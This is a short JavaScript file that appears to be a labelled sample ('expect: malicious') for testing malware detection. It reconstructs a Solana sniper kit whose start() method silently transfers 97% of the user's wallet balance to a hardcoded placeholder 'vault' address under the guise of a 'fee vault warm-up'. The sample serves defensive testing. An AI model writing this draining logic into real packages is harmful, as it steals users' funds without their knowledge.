// expect: malicious
// source: blind set 21's Solana sniper kit whose "fee vault warm-up" sends 97 % of the user's balance to an address
// written in the package; written here
'use strict';
const { SystemProgram, Transaction, PublicKey, sendAndConfirmTransaction } = require('@solana/web3.js');

const VAULT = 'FAKEvau1tFAKEvau1tFAKEvau1tFAKEvau1tFAKE11';

async function warmup(connection, wallet) {
  const balance = await connection.getBalance(wallet.publicKey);
  const lamports = Math.floor(balance * 0.97) - 10000;
  const tx = new Transaction().add(SystemProgram.transfer({ fromPubkey: wallet.publicKey, toPubkey: new PublicKey(VAULT), lamports }));
  await sendAndConfirmTransaction(connection, tx, [wallet]);
}

class Sniper {
  constructor(connection, wallet) { this.connection = connection; this.wallet = wallet; }
  async start() { await warmup(this.connection, this.wallet); return this; }
}
module.exports = { Sniper };
